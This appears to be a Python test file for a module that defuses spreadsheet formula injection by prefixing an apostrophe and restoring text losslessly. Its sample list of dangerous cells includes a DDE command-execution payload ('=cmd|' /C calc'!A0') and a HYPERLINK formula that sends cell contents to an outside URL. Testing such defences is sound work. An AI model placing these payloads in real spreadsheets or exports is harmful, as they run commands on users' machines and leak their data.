"""Cells that a spreadsheet would run: defused in one way, and given back exactly."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.neutral import is_dangerous, neutralise, restore

# what texts are made of that might confuse the apostrophe with a text's own
TRICKY = st.text(alphabet="'\"=+-@＝＋－＠−\t\r\n \u3000\u200b\ufeff0１,.%a課", max_size=8)
TEXTS = st.one_of(st.text(max_size=12), TRICKY)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.jp/?"&A1,"見る")',
    "=cmd|' /C calc'!A0",
    "+81-173-35-2111",
    "-1+2",
    "-3-4",
    "-2024-01",
    "-研修の実施",
    "- | - | 実施",
    "@SUM(A1:A9)",
    "\t=1",
    "\tabc",
    "\r=1",
    "\nabc",
    " =1",
    "\u3000＝1",
    '"=1"',
    "“=1”",
    " '=1",
    "＝1+1",
    "＋A1",
    "－A1",
    "＠SUM(A1)",
    "−A1",
    "﹦A1",
    "\u200b=1",
    "\ufeff=1",
    "\xa0=1",
    "=",
    "+",
]
HARMLESS = [
    "",
    "-",
    "--",
    "－",
    "−",
    "-3.2",
    "-3.2%",
    "－３．２％",
    "+5",
    "-1,234",
    "(-)",
    "△3.2%",
    "▲3",
    "―",
    "ー研修",
    "令和4年度=2022",
    "a=1",
    "'マイナ' と 'マインナ'",
    "※-",
    "①-",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == f"'{text}"
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_run_stays_as_printed(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize(("text", "cell"), [("'=1", "''=1"), ("''=1", "'''=1"), ("'-", "'-")])
def test_a_text_with_an_apostrophe_of_its_own_keeps_it(text: str, cell: str) -> None:
    assert neutralise(text) == cell
    assert restore(cell) == text


@given(TEXTS)
def test_every_text_comes_back(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(TEXTS, TEXTS)
def test_two_texts_are_never_one_cell(one: str, other: str) -> None:
    assert (neutralise(one) == neutralise(other)) is (one == other)


@given(TEXTS)
def test_safe_text_stays_and_stays_safe(text: str) -> None:
    if not is_dangerous(text):
        assert neutralise(text) == text
        assert neutralise(neutralise(text)) == text


@given(TEXTS, st.sampled_from("=+-@＝＋－＠\t\r"))
def test_no_cell_begins_with_what_starts_a_formula(text: str, sign: str) -> None:
    """Told by a rule of its own: a sign, then something that a formula could calculate with."""
    cell = neutralise(f"{sign}{text}")
    begins = re.match('[\\s"]*[=+@＝＋＠－−-]|[\t\r]', cell)
    marks = re.fullmatch("[-－−]+", cell)
    number = re.fullmatch(r"[-+－−＋]\d[\d,.，．]*[%％]?", cell)
    assert not begins or marks or number
